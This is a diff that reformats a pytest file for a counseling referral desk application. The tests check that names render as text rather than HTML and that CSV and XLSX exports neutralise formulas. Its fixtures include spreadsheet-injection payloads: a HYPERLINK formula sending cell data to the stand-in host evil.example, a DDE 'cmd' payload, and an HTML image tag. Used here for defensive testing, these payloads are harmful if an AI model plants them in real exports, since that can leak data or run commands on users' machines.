@@ -19,8 +19,14 @@ from dvdesk.domain.models import Organization, Service
 from dvdesk.gui.referrals import ReferralLogWindow
 
 IMG = '<img src="/etc/hostname" width=2000 height=2000>'
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("value", FORMULAS)
@@ -40,8 +46,14 @@ def test_the_referral_log_shows_names_as_text_not_html(qtbot, mini_db):
     with mini_db.write() as s:
         s.execute(update(Service).where(Service.key == "test.svc.housing").values(name=IMG))
         service = s.scalar(select(Service.id).where(Service.key == "test.svc.housing"))
-        referrals.record_referral(s, case_ref="R7-0142", counselor="<b>相談員</b>", service_ids=[service],
-                                  referred_on=dt.date(2025, 1, 6), today=dt.date(2025, 6, 30))
+        referrals.record_referral(
+            s,
+            case_ref="R7-0142",
+            counselor="<b>相談員</b>",
+            service_ids=[service],
+            referred_on=dt.date(2025, 1, 6),
+            today=dt.date(2025, 6, 30),
+        )
     window = ReferralLogWindow(mini_db, clock=lambda: dt.date(2025, 6, 30))
     qtbot.addWidget(window)
     window.show()
@@ -86,8 +98,9 @@ def _report_with_department(db, name):
     with db.write() as s:
         s.execute(update(Organization).where(Organization.key == "test.center").values(name=name))
         center = s.scalar(select(Organization.id).where(Organization.key == "test.center"))
-        statistics.save_month_counts(s, dt.date(2025, 4, 1), center, True, {("consultation", "phone"): 3},
-                                     today=dt.date(2025, 6, 30))
+        statistics.save_month_counts(
+            s, dt.date(2025, 4, 1), center, True, {("consultation", "phone"): 3}, today=dt.date(2025, 6, 30)
+        )
     with db.read() as s:
         return statistics.year_report(s, 2025, "entered")
 
@@ -110,8 +123,9 @@ def test_statistics_never_write_a_formula_built_from_a_name(mini_db, tmp_path, n
 
 def test_the_sheet_export_neutralises_formulas_and_reimports_them_unchanged(mini_db, tmp_path):
     with mini_db.write() as s:
-        for key, value in zip(("test.svc.housing", "test.svc.law", "test.svc.kids", "test.svc.consult"),
-                              FORMULAS, strict=False):
+        for key, value in zip(
+            ("test.svc.housing", "test.svc.law", "test.svc.kids", "test.svc.consult"), FORMULAS, strict=False
+        ):
             s.execute(update(Service).where(Service.key == key).values(description=value))
     for suffix in (".csv", ".xlsx"):
         path = tmp_path / f"s{suffix}"
@@ -120,8 +134,9 @@ def test_the_sheet_export_neutralises_formulas_and_reimports_them_unchanged(mini
             fields = [f for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for f in row]
         else:
             wb = openpyxl.load_workbook(path)
-            fields = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
-                      if isinstance(c.value, str)]
+            fields = [
+                c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
+            ]
             assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
         assert not [f for f in fields if f.startswith(files.FORMULA_STARTS)]
         for value in FORMULAS[:4]:
